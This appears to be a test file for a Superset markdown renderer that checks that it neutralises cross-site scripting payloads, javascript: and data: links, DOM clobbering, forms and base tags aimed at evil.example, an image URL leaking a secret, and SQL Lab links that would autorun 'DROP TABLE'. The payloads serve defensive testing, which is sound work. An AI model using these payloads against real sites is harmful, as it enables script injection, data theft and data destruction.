import { drawBlock, cutBlocks, plainText } from "./markdown.js";
import { expect } from "./testing.js";

function draw(markdown: string): HTMLElement {
  const holder = document.createElement("div");
  for (const block of cutBlocks(markdown)) holder.append(drawBlock(block));
  document.body.append(holder);
  return holder;
}

const ATTACKS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=window.pwned=1>'>",
  "[click](javascript:window.pwned=1)",
  "[click](  JaVaScRiPt:window.pwned=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](&#106;avascript:window.pwned=1)",
  "<a href='javascript:window.pwned=1'>x</a>",
  "![x](javascript:window.pwned=1)",
  '![x" onerror="window.pwned=1](/api/v1/chart/1/screenshot/a/)',
  '[a](/x "\\" onmouseover=\\"window.pwned=1")',
  "```js\" onclick=\"window.pwned=1\n<img src=x onerror=window.pwned=1>\n```",
  "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
  "<form action=https://evil.example><input name=q></form>",
  "<base href=https://evil.example>",
  "<style>* { display: none }</style>",
  "<a id=cookie name=getElementById>x</a>",
  "<details ontoggle=window.pwned=1 open>x</details>",
  "[x]: javascript:window.pwned=1\n\n[click][x]",
];

describe("Markdown", () => {
  for (const attack of ATTACKS) {
    it(`lets nothing run in ${attack.slice(0, 60)}`, async () => {
      const drawn = draw(attack);
      // To go elsewhere is what links do, and would end the tests.
      drawn.addEventListener("click", (event) => {
        const link = event.target instanceof Element ? event.target.closest("a") : null;
        if (link?.protocol.startsWith("http")) event.preventDefault();
      });
      for (const one of drawn.querySelectorAll<HTMLElement>("*")) one.click?.();
      await new Promise((resolve) => setTimeout(resolve, 5));

      expect(window).not.to.have.property("pwned");
      expect(drawn.querySelector("script, style, iframe, form, input, base, svg:not(.icon), math, details")).to.equal(null);
      for (const one of drawn.querySelectorAll("*")) {
        for (const { name, value } of one.attributes) {
          expect(name).not.to.match(/^on|^id$|^name$|^srcdoc$/);
          if (name === "href" || name === "src") expect(value).to.match(/^https?:\/\//);
        }
      }
    });
  }

  it("shows HTML as the text that it is", () => {
    expect(draw("a <b>bold</b> claim").textContent).to.equal("a <b>bold</b> claim\n");
  });

  it("loads no picture from elsewhere, nor one whose address does something", () => {
    const drawn = draw("![shot](https://evil.example/?q=secret) ![out](/logout/)");

    expect(drawn.querySelector("img")).to.equal(null);
    expect(drawn.querySelectorAll("a")).to.have.length(2);
  });

  it("loads Superset's own picture of a chart", () => {
    const drawn = draw("![Sales](/api/v1/chart/7/screenshot/abc/)");

    expect(drawn.querySelector("img")?.alt).to.equal("Sales");
  });

  it("opens links of this Superset here, and says where others lead", () => {
    const drawn = draw("[own](/explore/?slice_id=7) and [other](//evil.example/x)");

    const [own, other] = drawn.querySelectorAll("a");
    expect(own?.href).to.equal(`${location.origin}/explore/?slice_id=7`);
    expect(own?.target).to.equal("");
    expect(other).to.include({ target: "_blank", rel: "noopener noreferrer" });
    expect(drawn.textContent).to.include("(evil.example)");
  });

  it("does not let a path of two slashes lead elsewhere", () => {
    const link = draw(`[x](${location.origin}//evil.example/)`).querySelector("a");

    expect(link?.getAttribute("href")).to.equal(`${location.origin}//evil.example/`);
    expect(link?.host).to.equal(location.host);
  });

  for (const address of [
    "/sqllab/?dbid=1&sql=DROP+TABLE+facts&autorun=true",
    "/sqllab?dbid=1&AutoRun=True",
    "/sqllab/?dbid=1&%61uto%72un=true",
    "/sqllab/?dbid=1&%2561utorun=true",
    `/sqllab/?dbid=1&%${"25".repeat(9000)}61utorun=true`,
    "/sqllab/?dbid=1#autorun=true",
    "/sqllab/p/Ab12/",
    "/sqllab/x/../p/Ab12?x=1",
    "/sqllab/%70/Ab12",
    "/sqllab/?dbid=1&sql=a%0Ab&id=Ab12",
    `${location.origin}/sqllab/?autorun=true`,
    `${location.origin.replace("//", "//user@")}/sqllab/?autorun=true`,
    "https://evil.example/?to=/sqllab/%3Fautorun=true",
  ]) {
    it(`does not let a click run SQL: ${address.slice(0, 60)}`, () => {
      const drawn = draw(`[Sales](${address}) and <${address}>`);

      expect(drawn.querySelector("a")).to.equal(null);
      expect(drawn.textContent).to.include("Sales");
    });
  }

  it("opens SQL Lab with a statement that waits there", () => {
    const link = draw("[open](/sqllab/?dbid=1&sql=SELECT+1)").querySelector("a");

    expect(link?.pathname).to.equal("/sqllab/");
  });

  it("draws lists, tables and code", () => {
    const drawn = draw("- a\n- b\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n```sql\nSELECT 1\n```\n");

    expect(drawn.querySelectorAll("li")).to.have.length(2);
    expect(drawn.querySelector(".scroll table td[align=right]")?.textContent).to.equal("2");
    expect(drawn.querySelector("pre")?.textContent).to.equal("SELECT 1\n");
    expect(drawn.querySelector(".code button")?.textContent).to.equal("Copy");
  });

  it("is read out as words", () => {
    expect(plainText("# Sales\n\n**up** 5 %, see [chart](/x)")).to.equal("Sales\nup 5 %, see chart");
  });

  it("draws a long answer in no time", () => {
    const long = "| a | b |\n|---|---|\n" + "| 1 | **2** |\n".repeat(500) + "\n\nword ".repeat(2000);
    const began = performance.now();
    draw(long);

    expect(performance.now() - began).to.be.below(1000);
  });
});
